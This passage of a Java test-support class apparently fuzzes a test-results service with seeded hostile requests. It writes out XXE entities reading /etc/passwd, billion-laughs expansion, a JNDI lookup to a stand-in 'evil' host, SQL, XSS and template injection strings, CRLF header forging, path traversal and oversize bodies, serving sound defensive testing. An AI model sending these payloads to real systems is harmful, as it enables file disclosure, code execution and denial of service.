package dev.testpulse.faults.support;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.BiFunction;

/**
 * Malformed and hostile requests for both services, each generated from its own {@code new Random(seed, index)} so
 * request {@code i} of seed {@code s} is the same on every run: a failure is reproduced by its seed and index.
 * Every category aims at one kind of hostility; {@link #CATEGORIES} holds how many of each one run makes.
 */
public final class HostileRequests {

    /** Which service a request goes to. */
    public enum Service { INGEST, ANALYSIS }

    /**
     * One request. {@code raw} requests go over a plain socket ({@link RawHttp}): {@code head} is then the request line
     * and headers as sent, {@code pieceBytes}/{@code pauseMs} trickle the body, {@code complete=false} gives up half-way.
     */
    public record Attack(String category, Service service, String method, String path, String contentType, byte[] body,
            String token, boolean raw, String head, int pieceBytes, long pauseMs, boolean complete) {

        static Attack http(String category, Service service, String method, String path, String contentType, byte[] body,
                String token) {
            return new Attack(category, service, method, path, contentType, body, token, false, null, 0, 0, true);
        }
    }

    /** The tokens and names the requests use; project {@code project} is the one whose topic records are counted. */
    public record Context(String project, String token, String otherProject, String adminToken, String ruleId) {
    }

    private static final String[] INGEST_POSTS = {"/api/v1/outcomes", "/api/v1/reports/junit", "/api/v1/reports/ctrf", "/api/v1/reports/trx"};
    private static final String[] HOSTILE_TEXT = {"<script>alert(1)</script>", "[x](https://evil.example)", "a|b|c", "line\r\nforged: yes",
            "\u202Eevil", "**bold** _it_ `code`", "' OR 1=1 --", "${jndi:ldap://evil/a}", "%00%0a", "\uD83D\uDE00", "../../etc/passwd",
            "#{7*7}", "<![CDATA[x]]>", "\\\\server\\share", "\u0000nul", "\uFFFF", "\t\u000B\f", "<!-- -->", "&amp;&lt;"};

    /** Requests per category in one run (in this order). */
    public static final Map<String, Integer> CATEGORIES = new LinkedHashMap<>();

    static {
        CATEGORIES.put("json-broken", 900);
        CATEGORIES.put("json-deep", 250);
        CATEGORIES.put("json-wrong-types", 900);
        CATEGORIES.put("json-huge", 60);
        CATEGORIES.put("ndjson", 500);
        CATEGORIES.put("xml-hostile", 900);
        CATEGORIES.put("ctrf-hostile", 500);
        CATEGORIES.put("utf8-invalid", 500);
        CATEGORIES.put("content-type", 600);
        CATEGORIES.put("hostile-names", 500);
        CATEGORIES.put("run-context", 500);
        CATEGORIES.put("paths", 700);
        CATEGORIES.put("multipart", 300);
        CATEGORIES.put("admin-body", 300);
        CATEGORIES.put("windows", 1500);
        CATEGORIES.put("rules-globs", 600);
        CATEGORIES.put("analysis-json", 900);
        CATEGORIES.put("oversize", 30);
        CATEGORIES.put("slow", 24);
    }

    private final long seed;
    private final Context context;
    private final Map<String, BiFunction<Random, Integer, Attack>> makers = new LinkedHashMap<>();
    private final List<String> plan = new ArrayList<>();

    public HostileRequests(long seed, Context context) {
        this.seed = seed;
        this.context = context;
        makers.put("json-broken", this::jsonBroken);
        makers.put("json-deep", this::jsonDeep);
        makers.put("json-wrong-types", this::jsonWrongTypes);
        makers.put("json-huge", this::jsonHuge);
        makers.put("ndjson", this::ndjson);
        makers.put("xml-hostile", this::xmlHostile);
        makers.put("ctrf-hostile", this::ctrfHostile);
        makers.put("utf8-invalid", this::utf8Invalid);
        makers.put("content-type", this::contentType);
        makers.put("hostile-names", this::hostileNames);
        makers.put("run-context", this::runContext);
        makers.put("paths", this::paths);
        makers.put("multipart", this::multipart);
        makers.put("admin-body", this::adminBody);
        makers.put("windows", this::windows);
        makers.put("rules-globs", this::rulesGlobs);
        makers.put("analysis-json", this::analysisJson);
        makers.put("oversize", this::oversize);
        makers.put("slow", this::slow);
        CATEGORIES.forEach((category, count) -> {
            for (int i = 0; i < count; i++) {
                plan.add(category);
            }
        });
    }

    public int size() {
        return plan.size();
    }

    /** Request {@code index} of this seed. */
    public Attack get(int index) {
        // scrambled (SplitMix64's finaliser): java.util.Random's first draws from neighbouring seeds are alike
        Random random = new Random(scramble(seed * 1_000_003L + index));
        return makers.get(plan.get(index)).apply(random, index);
    }

    // --- ingest: JSON outcomes ---------------------------------------------------------------------------------------

    private String outcome(Random r, int i) {
        return Outcomes.line(context.project(), i, "t" + i);
    }

    private Attack jsonBroken(Random r, int i) {
        String valid = "[" + outcome(r, i) + "," + outcome(r, i + 1) + "]";
        String body = switch (r.nextInt(8)) {
            case 0 -> valid.substring(0, 1 + r.nextInt(valid.length() - 2));
            case 1 -> mutate(r, valid, 1 + r.nextInt(5));
            case 2 -> valid.replace("\"", r.nextBoolean() ? "'" : "");
            case 3 -> valid + "]".repeat(1 + r.nextInt(3));
            case 4 -> "[" + outcome(r, i) + ",,]";
            case 5 -> "{\"project\":\"" + context.project() + "\",\"project\":1}";
            case 6 -> valid.replace(":", r.nextBoolean() ? "=" : "::");
            default -> "\uFEFF\uFEFF" + valid.replace("}", "},");
        };
        return ingestJson(r, "json-broken", body);
    }

    private Attack jsonDeep(Random r, int i) {
        int depth = 65 + r.nextInt(r.nextBoolean() ? 200 : 60_000);
        String open = r.nextBoolean() ? "[" : "{\"a\":";
        String close = open.equals("[") ? "]" : "}";
        String nest = open.repeat(depth) + "1" + close.repeat(r.nextInt(4) == 0 ? depth / 2 : depth);
        String body = switch (r.nextInt(3)) {
            case 0 -> nest;
            case 1 -> "[{\"project\":\"" + context.project() + "\",\"test\":" + nest + "}]";
            default -> "[" + outcome(r, i).replace("\"duration_ms\":", "\"duration_ms\":" + nest + ",\"x\":") + "]";
        };
        return ingestJson(r, "json-deep", body);
    }

    private Attack jsonWrongTypes(Random r, int i) {
        String[] fields = {"project", "pipeline", "run", "suite", "test", "status", "duration_ms", "id", "observed_at", "failure",
                "flaky", "tags", "attempt"};
        String[] values = {"1", "-1", "1e309", "-0", "true", "null", "[]", "{}", "\"\"", "[1,2]", "{\"id\":[]}", "\"passed\"",
                "18446744073709551616", "0.0000000001", "\"9999-99-99\"", "NaN", "\"" + "x".repeat(300) + "\""};
        String field = fields[r.nextInt(fields.length)];
        String value = values[r.nextInt(values.length)];
        String body = "{" + outcome(r, i).substring(1).replaceFirst("\"" + field + "\":(\"[^\"]*\"|\\{[^}]*\\}|[^,}]*)", "\"" + field + "\":" + value);
        if (!body.contains("\"" + field + "\":" + value)) {
            body = outcome(r, i).replaceFirst("\\{", "{\"" + field + "\":" + value + ",");
        }
        if (r.nextInt(3) == 0) {
            body = "[" + body + "]";
        } else if (r.nextInt(4) == 0) {
            body = values[r.nextInt(values.length)];
        }
        return ingestJson(r, "json-wrong-types", body);
    }

    private Attack jsonHuge(Random r, int i) {
        String body = switch (r.nextInt(4)) {
            case 0 -> outcome(r, i).replace("\"t" + i + "\"", "\"" + "n".repeat(200_000 + r.nextInt(1_000_000)) + "\"");
            case 1 -> "[" + "1,".repeat(10_000 + r.nextInt(200_000)) + "1]";
            case 2 -> "[" + (outcome(r, i) + ",").repeat(5_000 + r.nextInt(10_000)) + outcome(r, i) + "]";
            default -> "{\"" + "k".repeat(50_000 + r.nextInt(500_000)) + "\":1}";
        };
        return ingestJson(r, "json-huge", body);
    }

    private Attack ndjson(Random r, int i) {
        StringBuilder body = new StringBuilder();
        int lines = 1 + r.nextInt(20);
        for (int line = 0; line < lines; line++) {
            switch (r.nextInt(7)) {
                case 0 -> body.append(outcome(r, i * 100 + line)).append('\n');
                case 1 -> body.append('\n');
                case 2 -> body.append("garbage").append(r.nextInt()).append('\n');
                case 3 -> body.append(outcome(r, line).replace("\"t" + line + "\"", "\"" + "L".repeat(10_000 + r.nextInt(r.nextInt(10) == 0 ? 1_200_000 : 100_000)) + "\""));
                case 4 -> body.append("[").append(outcome(r, line)).append("]\n");
                case 5 -> body.append(outcome(r, line), 0, 40).append('\n');
                default -> body.append("{}\r\n");
            }
        }
        return Attack.http("ndjson", Service.INGEST, "POST", "/api/v1/outcomes", "application/x-ndjson",
                body.toString().getBytes(StandardCharsets.UTF_8), context.token());
    }

    // --- ingest: XML and CTRF reports ---------------------------------------------------------------------------------

    private Attack xmlHostile(Random r, int i) {
        String suite = "<testsuite name=\"s\" tests=\"1\"><testcase classname=\"C\" name=\"t\"/></testsuite>";
        String xml = switch (r.nextInt(10)) {
            case 0 -> "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                    + "<testsuite name=\"&xxe;\"><testcase name=\"t\"/></testsuite>";
            case 1 -> billionLaughs(5 + r.nextInt(6));
            case 2 -> "<?xml version=\"1.0\"?><!DOCTYPE testsuite SYSTEM \"http://127.0.0.1:1/evil.dtd\">" + suite;
            case 3 -> "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % p SYSTEM \"http://127.0.0.1:1/p\"> %p;]>" + suite;
            case 4 -> "<testsuite xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></testsuite>";
            case 5 -> suite.substring(0, r.nextInt(suite.length()));
            case 6 -> "<testsuites>" + "<testsuite>".repeat(1 + r.nextInt(5_000)) + "</testsuites>";
            case 7 -> "<testsuite name=\"s\"><testcase name=\"" + "a".repeat(10_000 + r.nextInt(r.nextInt(10) == 0 ? 1_200_000 : 100_000)) + "\"/></testsuite>";
            case 8 -> "<testsuite " + "a".repeat(10) + "=\"1\" ".repeat(1) + attributes(r, 1_000 + r.nextInt(20_000)) + "/>";
            default -> "<TestRun xmlns=\"http://microsoft.com/schemas/VisualStudio/TeamTest/2010\"><!DOCTYPE y><Results>"
                    + "<UnitTestResult testName=\"&undefined;\" outcome=\"Passed\"/></Results></TestRun>";
        };
        String path = new String[] {"/api/v1/reports/junit", "/api/v1/reports/trx"}[r.nextInt(2)];
        if (r.nextInt(4) == 0) {
            return multipartOf("xml-hostile", path, List.of(xml.getBytes(StandardCharsets.UTF_8)), "application/xml", r);
        }
        return Attack.http("xml-hostile", Service.INGEST, "POST", path + "?run=" + i, r.nextBoolean() ? "application/xml" : "text/xml",
                xml.getBytes(StandardCharsets.UTF_8), context.token());
    }

    private static String billionLaughs(int levels) {
        StringBuilder dtd = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
        for (int level = 1; level <= levels; level++) {
            dtd.append("<!ENTITY lol").append(level).append(" \"").append(("&lol" + (level - 1) + ";").repeat(10)).append("\">");
        }
        return dtd.append("]><testsuite name=\"&lol").append(levels).append(";\"/>").toString();
    }

    private static String attributes(Random r, int count) {
        StringBuilder attributes = new StringBuilder();
        for (int a = 0; a < count; a++) {
            attributes.append(" a").append(a).append("=\"").append(r.nextInt()).append('"');
        }
        return attributes.toString();
    }

    private Attack ctrfHostile(Random r, int i) {
        String test = "{\"name\":\"t\",\"status\":\"passed\",\"duration\":1}";
        String body = switch (r.nextInt(8)) {
            case 0 -> "{\"results\":{\"tool\":{\"name\":\"x\"},\"tests\":[" + test + "]";
            case 1 -> "{\"results\":" + "[".repeat(100 + r.nextInt(10_000)) + "}";
            case 2 -> "{\"results\":{\"tool\":{\"name\":\"x\"},\"tests\":" + "[" + (test + ",").repeat(r.nextInt(3)) + "1]}}";
            case 3 -> "{\"results\":{\"tool\":{\"name\":1},\"tests\":{\"name\":[]}}}";
            case 4 -> "{\"results\":{\"tool\":{\"name\":\"x\"},\"tests\":[{\"name\":\"t\",\"status\":\"" + word(r) + "\",\"duration\":-1e400}]}}";
            case 5 -> "{\"results\":{\"tool\":{\"name\":\"x\"},\"tests\":[{\"name\":null,\"status\":null}]}}";
            case 6 -> "[]";
            default -> "{\"results\":{\"tool\":{\"name\":\"x\"},\"tests\":[{\"name\":\"t\",\"status\":\"passed\",\"duration\":1,"
                    + "\"retries\":" + "9".repeat(100 + r.nextInt(2_000)) + "}]}}";
        };
        if (r.nextInt(4) == 0) {
            return multipartOf("ctrf-hostile", "/api/v1/reports/ctrf", List.of(body.getBytes(StandardCharsets.UTF_8)), "application/json", r);
        }
        return Attack.http("ctrf-hostile", Service.INGEST, "POST", "/api/v1/reports/ctrf?run=" + i, "application/json",
                body.getBytes(StandardCharsets.UTF_8), context.token());
    }

    private Attack utf8Invalid(Random r, int i) {
        byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xA0, (byte) 0xA1}, {(byte) 0xE2, 0x28, (byte) 0xA1}, {(byte) 0xF0, 0x28, (byte) 0x8C, 0x28},
                {(byte) 0xFF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}, {0}};
        String path = INGEST_POSTS[r.nextInt(INGEST_POSTS.length)];
        String text = switch (path) {
            case "/api/v1/outcomes" -> "[" + outcome(r, i) + "]";
            case "/api/v1/reports/ctrf" -> "{\"results\":{\"tool\":{\"name\":\"x\"},\"tests\":[{\"name\":\"NAME\",\"status\":\"passed\",\"duration\":1}]}}";
            default -> "<?xml version=\"1.0\" encoding=\"UTF-8\"?><testsuite name=\"NAME\"><testcase name=\"NAME\"/></testsuite>";
        };
        byte[] plain = text.replaceFirst("t" + i + "\"", "NAME\"").getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        String s = new String(plain, StandardCharsets.UTF_8);
        int at = s.indexOf("NAME");
        at = at < 0 ? r.nextInt(plain.length) : at;
        body.write(plain, 0, at);
        body.writeBytes(bad[r.nextInt(bad.length)]);
        body.write(plain, at, plain.length - at);
        boolean analysis = r.nextInt(4) == 0;
        if (analysis) {
            return Attack.http("utf8-invalid", Service.ANALYSIS, "PUT", "/api/v1/projects/" + context.project() + "/settings",
                    "application/json", ("{\"default_branch\":\"m" + new String(bad[r.nextInt(bad.length)], StandardCharsets.ISO_8859_1) + "\"}")
                            .getBytes(StandardCharsets.ISO_8859_1), context.token());
        }
        String type = path.equals("/api/v1/outcomes") || path.endsWith("ctrf") ? "application/json" : "application/xml";
        return Attack.http("utf8-invalid", Service.INGEST, "POST", path + "?run=" + i, type, body.toByteArray(), context.token());
    }

    private Attack contentType(Random r, int i) {
        String[] types = {"text/plain", "application/octet-stream", "multipart/form-data", "multipart/form-data; boundary=",
                "application/json; charset=EBCDIC", "application/xml; charset=utf-16", "application/x-www-form-urlencoded", "*/*",
                "application/json, application/xml", "application/", "image/svg+xml", ";;;", "application/json; charset=\"\u00e9\"",
                "application/x-ndjson; boundary=x", "text/html"};
        String type = types[r.nextInt(types.length)];
        byte[] body = (r.nextBoolean() ? "[" + outcome(r, i) + "]" : "<testsuite/>").getBytes(StandardCharsets.UTF_8);
        if (r.nextInt(3) == 0) {
            String[][] writes = {{"PUT", "/api/v1/projects/" + context.project() + "/target"}, {"POST", "/api/v1/rules"},
                    {"POST", "/api/v1/silences"}, {"PUT", "/api/v1/projects/" + context.project() + "/settings"}};
            String[] write = writes[r.nextInt(writes.length)];
            return Attack.http("content-type", Service.ANALYSIS, write[0], write[1], type, "{\"rate\":0.5}".getBytes(StandardCharsets.UTF_8), context.token());
        }
        String path = r.nextInt(5) == 0 ? "/api/v1/admin/tokens" : INGEST_POSTS[r.nextInt(INGEST_POSTS.length)];
        return Attack.http("content-type", Service.INGEST, "POST", path + "?run=" + i, type, body,
                path.contains("admin") ? context.adminToken() : context.token());
    }

    private Attack hostileNames(Random r, int i) {
        String name = xmlEscape(HOSTILE_TEXT[r.nextInt(HOSTILE_TEXT.length)] + HOSTILE_TEXT[r.nextInt(HOSTILE_TEXT.length)]
                + (r.nextInt(10) == 0 ? "x".repeat(5_000 + r.nextInt(50_000)) : ""));
        String xml = "<testsuite name=\"" + name + "\" hostname=\"" + name + "\"><testcase classname=\"" + name + "\" name=\"" + name + i
                + "\"><failure type=\"" + name + "\" message=\"" + name + "\">" + name + "</failure></testcase>"
                + "<testcase name=\"" + name + "-p" + i + "\"><properties><property name=\"" + name + "\" value=\"" + name + "\"/></properties></testcase></testsuite>";
        return Attack.http("hostile-names", Service.INGEST, "POST", "/api/v1/reports/junit?run=names-" + i + "&pipeline=hostile",
                "application/xml", xml.getBytes(StandardCharsets.UTF_8), context.token());
    }

    private Attack runContext(Random r, int i) {
        String[] keys = {"run", "pipeline", "attempt", "job", "commit", "branch", "started_at", "tags", "project"};
        String[] values = {"", "-1", "99999999999999999999", "%00", "%0a%0dX:y", "%ff%fe", "a".repeat(5_000), "%25", "2026-13-45T99:99:99Z",
                "1e9", ",,,,", "%E2%80%AE", "..%2F..%2F", "%3Cscript%3E", "0x10", "NaN", "a".repeat(70_000)};
        StringBuilder query = new StringBuilder("?");
        for (int k = 0; k < 1 + r.nextInt(4); k++) {
            query.append(keys[r.nextInt(keys.length)]).append('=').append(values[r.nextInt(values.length)]).append('&');
        }
        if (!query.toString().contains("run=") || r.nextInt(5) == 0) {
            query.append("run=").append(values[r.nextInt(values.length)]);
        }
        String path = INGEST_POSTS[1 + r.nextInt(3)];
        String body = path.endsWith("ctrf")
                ? "{\"results\":{\"tool\":{\"name\":\"x\"},\"tests\":[{\"name\":\"t\",\"status\":\"passed\",\"duration\":1}]}}"
                : "<testsuite name=\"s\"><testcase name=\"t\"/></testsuite>";
        return Attack.http("run-context", Service.INGEST, "POST", path + query, path.endsWith("ctrf") ? "application/json" : "application/xml",
                body.getBytes(StandardCharsets.UTF_8), context.token());
    }

    private Attack paths(Random r, int i) {
        String[] segments = {"%00", "%0a", "%0d%0aX-Forged:%20yes", "..", "%2e%2e", "%2F", "%5C", "x".repeat(3_000), "%ff", "%", "%zz",
                ";jsessionid=1", "%C0%AE", "~", "%20", "*", "%E2%80%AE", "%u0000", "a%00b", "\u00e9"};
        String segment = segments[r.nextInt(segments.length)];
        boolean analysis = r.nextBoolean();
        String path;
        if (analysis) {
            String[] templates = {"/api/v1/projects/S/summary", "/api/v1/projects/" + context.project() + "/suites/S/tests",
                    "/api/v1/projects/S/report", "/api/v1/rules/S", "/api/v1/silences/S", "/api/v1/S", "/S",
                    "/api/v1/projects/" + context.project() + "/suites/S/target", "/api/v1/projects/S/failures"};
            path = templates[r.nextInt(templates.length)].replace("S", segment);
        } else {
            String[] templates = {"/api/v1/outcomesS", "/api/v1/reports/S", "/api/v1/admin/tokens/S", "/S", "/api/v1/S/outcomes"};
            path = templates[r.nextInt(templates.length)].replace("S", segment);
        }
        String[] methods = {"GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD"};
        String method = methods[r.nextInt(methods.length)];
        String head = method + " " + path + " HTTP/1.1\r\nAuthorization: Bearer " + (path.contains("admin") ? context.adminToken() : context.token())
                + "\r\nContent-Type: application/json\r\nContent-Length: 2";
        return new Attack("paths", analysis ? Service.ANALYSIS : Service.INGEST, method, path, "application/json",
                "[]".getBytes(StandardCharsets.UTF_8), null, true, head, 2, 0, true);
    }

    private Attack multipart(Random r, int i) {
        String path = INGEST_POSTS[1 + r.nextInt(3)] + "?run=" + i;
        String boundary = "b" + r.nextInt(1_000_000);
        StringBuilder body = new StringBuilder();
        String type = "multipart/form-data; boundary=" + boundary;
        switch (r.nextInt(6)) {
            case 0 -> body.append("--").append(boundary).append("\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.xml\"\r\n\r\n<testsuite");
            case 1 -> {
                int parts = 400 + r.nextInt(300);
                for (int p = 0; p < parts; p++) {
                    body.append("--").append(boundary).append("\r\nContent-Disposition: form-data; name=\"f").append(p)
                            .append("\"; filename=\"").append(p).append(".xml\"\r\nContent-Type: application/xml\r\n\r\n<testsuite/>\r\n");
                }
                body.append("--").append(boundary).append("--\r\n");
            }
            case 2 -> {
                type = "multipart/form-data; boundary=other";
                body.append("--").append(boundary).append("--\r\n");
            }
            case 3 -> body.append("--").append(boundary).append("\r\nContent-Disposition: form-data; name=\"").append("n".repeat(20_000))
                    .append("\"\r\n\r\nvalue\r\n--").append(boundary).append("--\r\n");
            case 4 -> body.append("--").append(boundary).append("\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/x\"\r\n")
                    .append("Content-Type: application/xml\r\n\r\n<testsuite name=\"s\"><testcase name=\"t\"/></testsuite>\r\n--x\r\n");
            default -> {
                for (int p = 0; p < 300; p++) {
                    body.append("--").append(boundary).append("\r\nContent-Disposition: form-data; name=\"field").append(p)
                            .append("\"\r\n\r\n").append("v".repeat(100)).append("\r\n");
                }
                body.append("--").append(boundary).append("--\r\n");
            }
        }
        return Attack.http("multipart", Service.INGEST, "POST", path, type, body.toString().getBytes(StandardCharsets.UTF_8), context.token());
    }

    private Attack multipartOf(String category, String path, List<byte[]> files, String fileType, Random r) {
        String boundary = "hb" + r.nextInt(1_000_000);
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        for (int f = 0; f < files.size(); f++) {
            body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"f" + f + "\"; filename=\"r" + f
                    + ".x\"\r\nContent-Type: " + fileType + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            body.writeBytes(files.get(f));
            body.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        }
        body.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return Attack.http(category, Service.INGEST, "POST", path + "?run=m" + r.nextInt(1000), "multipart/form-data; boundary=" + boundary,
                body.toByteArray(), context.token());
    }

    private Attack adminBody(Random r, int i) {
        String[] bodies = {"{}", "{\"project\":null}", "{\"project\":\"" + "p".repeat(10_000) + "\"}", "{\"project\":\"a b/c\"}",
                "{\"project\":[\"x\"]}", "{\"project\":\"x\",\"description\":\"" + "d".repeat(100_000) + "\"}", "[]", "\"x\"",
                "{\"project\":\"%00\\n\"}", "{\"project\":\"x\",\"expires_at\":\"yesterday\"}", "{\"project\":{}}"};
        if (r.nextInt(4) == 0) {
            String id = new String[] {"tok_" + "x".repeat(5_000), "tok_missing", "%20", "tok_%0a", "null"}[r.nextInt(5)];
            return Attack.http("admin-body", Service.INGEST, "DELETE", "/api/v1/admin/tokens/" + id, null, null, context.adminToken());
        }
        return Attack.http("admin-body", Service.INGEST, "POST", "/api/v1/admin/tokens", "application/json",
                bodies[r.nextInt(bodies.length)].getBytes(StandardCharsets.UTF_8), context.adminToken());
    }

    // --- analysis ----------------------------------------------------------------------------------------------------

    private Attack windows(Random r, int i) {
        String p = context.project();
        String[] paths = {"/api/v1/projects/" + p + "/summary", "/api/v1/projects/" + p + "/suites/suite-1/tests",
                "/api/v1/projects/" + p + "/trend", "/api/v1/projects/" + p + "/failures", "/api/v1/projects/" + p + "/flaky",
                "/api/v1/projects/" + p + "/critical", "/api/v1/projects/" + p + "/report", "/api/v1/alerts", "/api/v1/rules",
                "/api/v1/projects", "/api/v1/projects/" + p + "/settings"};
        String[] keys = {"window", "branch", "limit", "sort", "step", "from", "to", "suite", "format", "state", "project"};
        String[] values = {"runs:0", "runs:-1", "runs:999999", "runs:2147483648", "runs:" + "9".repeat(400), "0d", "31d", "99999d",
                "1000000000000d", "7d7d", "1y", "-1h", "1.5h", "runs:1", "P7D", "%00", "%0a", "x".repeat(10_000), "1m", "5s",
                "-999999999-01-01T00:00:00Z", "%2B999999999-12-31T23:59:59Z", "2026-11-30T00:00:00Z", "1970-01-01T00:00:00Z",
                "0", "-1", "1001", "2147483648", "1e3", "name", "RATE", "json", "markdown", "xml", "firing", "resolved", "*", "%25",
                "%E2%80%AE", "runs:20", "24h", "1h", "2026-11-30T00:00:00+99:00", "NaN"};
        StringBuilder query = new StringBuilder("?");
        for (int k = 0; k < 1 + r.nextInt(4); k++) {
            query.append(keys[r.nextInt(keys.length)]).append('=').append(values[r.nextInt(values.length)]).append('&');
        }
        String accept = new String[] {"application/json", "text/markdown", "*/*", "text/html", "application/xml", "text/event-stream"}[r.nextInt(6)];
        String head = "GET " + paths[r.nextInt(paths.length)] + query + " HTTP/1.1\r\nAccept: " + accept
                + (r.nextBoolean() ? "\r\nAuthorization: Bearer " + context.token() : "");
        return new Attack("windows", Service.ANALYSIS, "GET", null, null, new byte[0], null, true, head, 1, 0, true);
    }

    private Attack rulesGlobs(Random r, int i) {
        String[] globs = {"*a".repeat(100) + "b", "*".repeat(200), "*".repeat(201), "[a-" + "z".repeat(150), "\\".repeat(150),
                "**/**/**/**", "?".repeat(200), "(a+)+$", "%00", "a\nb", "x".repeat(100_000), "", "[[[[[", "{a,b}".repeat(30)};
        String[] kinds = {"rate_below", "baseline_drop", "critical_failed", "new_failure_group", "flaky_detected", "infra_incident", "duration_regression",
                "RATE_BELOW", "x", "", "null"};
        String[] topics = {"testpulse.alerts", "testpulse.tokens", "testpulse.outcomes", "__consumer_offsets", "testpulse.alerts." + "x".repeat(300),
                "testpulse.alerts.team a", "testpulse.alerts.%00", "testpulse.alerts.ok"};
        String[] numbers = {"0.5", "-1", "2", "1e309", "NaN", "\"0.5\"", "null", "[]", "99999999999999999999"};
        String[] windows = {"runs:20", "runs:0", "runs:99999999", "1000d", "1h", "x", "7d"};
        String body = "{\"project\":\"" + context.project() + "\",\"name\":\"" + jsonEscape(HOSTILE_TEXT[r.nextInt(HOSTILE_TEXT.length)])
                + "\",\"kind\":\"" + kinds[r.nextInt(kinds.length)] + "\",\"suite_glob\":\"" + jsonEscape(globs[r.nextInt(globs.length)])
                + "\",\"test_glob\":\"" + jsonEscape(globs[r.nextInt(globs.length)]) + "\",\"window\":\"" + windows[r.nextInt(windows.length)]
                + "\",\"below\":" + numbers[r.nextInt(numbers.length)] + ",\"min_samples\":" + numbers[r.nextInt(numbers.length)]
                + ",\"for_duration\":\"" + new String[] {"5m", "99999d", "-1m", "x", "0s"}[r.nextInt(5)] + "\",\"topic\":\""
                + topics[r.nextInt(topics.length)] + "\",\"severity\":\"" + word(r) + "\"}";
        int shape = r.nextInt(5);
        if (shape == 0) {
            String until = new String[] {"9999-12-31T23:59:59Z", "+999999999-12-31T23:59:59Z", "2000-01-01T00:00:00Z", "tomorrow", "1", "null",
                    "2099-01-01T00:00:00Z"}[r.nextInt(7)];
            String silence = "{\"project\":\"" + context.project() + "\",\"suite_glob\":\"" + jsonEscape(globs[r.nextInt(globs.length)])
                    + "\",\"until\":\"" + until + "\",\"fingerprint\":" + (r.nextBoolean() ? "null" : "\"" + "f".repeat(r.nextInt(100_000)) + "\"")
                    + ",\"comment\":\"" + "c".repeat(r.nextInt(50_000)) + "\"}";
            return Attack.http("rules-globs", Service.ANALYSIS, "POST", "/api/v1/silences", "application/json",
                    silence.getBytes(StandardCharsets.UTF_8), context.token());
        }
        if (shape == 1) {
            return Attack.http("rules-globs", Service.ANALYSIS, "PUT", "/api/v1/rules/" + context.ruleId(), "application/json",
                    body.getBytes(StandardCharsets.UTF_8), context.token());
        }
        return Attack.http("rules-globs", Service.ANALYSIS, "POST", "/api/v1/rules", "application/json",
                body.getBytes(StandardCharsets.UTF_8), context.token());
    }

    private Attack analysisJson(Random r, int i) {
        String p = context.project();
        String[][] writes = {{"PUT", "/api/v1/projects/" + p + "/baseline"}, {"PUT", "/api/v1/projects/" + p + "/suites/suite-1/baseline"},
                {"PUT", "/api/v1/projects/" + p + "/target"}, {"PUT", "/api/v1/projects/" + p + "/suites/suite-1/target"},
                {"PUT", "/api/v1/projects/" + p + "/settings"}, {"POST", "/api/v1/rules"}, {"POST", "/api/v1/silences"},
                {"PUT", "/api/v1/rules/" + context.ruleId()}};
        String[] write = writes[r.nextInt(writes.length)];
        String body = switch (r.nextInt(10)) {
            case 0 -> "{\"rate\":" + "[".repeat(65 + r.nextInt(30_000));
            case 1 -> "{\"rate\":\"0.5\"}";
            case 2 -> "{\"rate_pct\":1e999}";
            case 3 -> "{\"from_window\":\"" + new String[] {"runs:0", "99999d", "x", "runs:99999999"}[r.nextInt(4)] + "\",\"branch\":\"main\"}";
            case 4 -> "{\"default_branch\":\"" + "b".repeat(r.nextInt(300_000)) + "\",\"critical_tests\":[" + "\"t\",".repeat(r.nextInt(50_000)) + "\"t\"]}";
            case 5 -> "{\"critical_tests\":" + "[1,".repeat(1 + r.nextInt(100)) + "]";
            case 6 -> "{\"rate\":" + r.nextGaussian() * 10 + ",\"rate_pct\":" + r.nextInt() + "}";
            case 7 -> "null";
            case 8 -> "{\"critical_tests\":{\"a\":1},\"default_branch\":[]}";
            default -> mutate(r, "{\"rate\":0.5,\"rate_pct\":50,\"from_window\":\"7d\",\"branch\":\"main\"}", 1 + r.nextInt(4));
        };
        return Attack.http("analysis-json", Service.ANALYSIS, write[0], write[1], "application/json",
                body.getBytes(StandardCharsets.UTF_8), context.token());
    }

    // --- over a socket: oversize and slow bodies ----------------------------------------------------------------------

    private Attack oversize(Random r, int i) {
        boolean analysis = r.nextInt(3) == 0;
        String path = analysis ? "/api/v1/projects/" + context.project() + "/settings" : INGEST_POSTS[r.nextInt(INGEST_POSTS.length)] + "?run=" + i;
        String method = analysis ? "PUT" : "POST";
        String type = analysis || path.startsWith("/api/v1/outcomes") || path.contains("ctrf") ? "application/json" : "application/xml";
        int bytes = 5 * 1024 * 1024 + r.nextInt(4 * 1024 * 1024);
        byte[] filler = new byte[bytes];
        java.util.Arrays.fill(filler, (byte) ' ');
        filler[0] = analysis || type.equals("application/json") ? (byte) '[' : (byte) '<';
        String auth = "\r\nAuthorization: Bearer " + context.token() + "\r\nContent-Type: " + type;
        return switch (r.nextInt(3)) {
            case 0 -> new Attack("oversize", analysis ? Service.ANALYSIS : Service.INGEST, method, path, type, new byte[64], null, true,
                    method + " " + path + " HTTP/1.1" + auth + "\r\nContent-Length: 5000000000", 64, 0, true);
            case 1 -> new Attack("oversize", analysis ? Service.ANALYSIS : Service.INGEST, method, path, type, RawHttp.chunked(filler, 64 * 1024),
                    null, true, method + " " + path + " HTTP/1.1" + auth + "\r\nTransfer-Encoding: chunked", 256 * 1024, 0, true);
            default -> new Attack("oversize", analysis ? Service.ANALYSIS : Service.INGEST, method, path, type, filler, null, true,
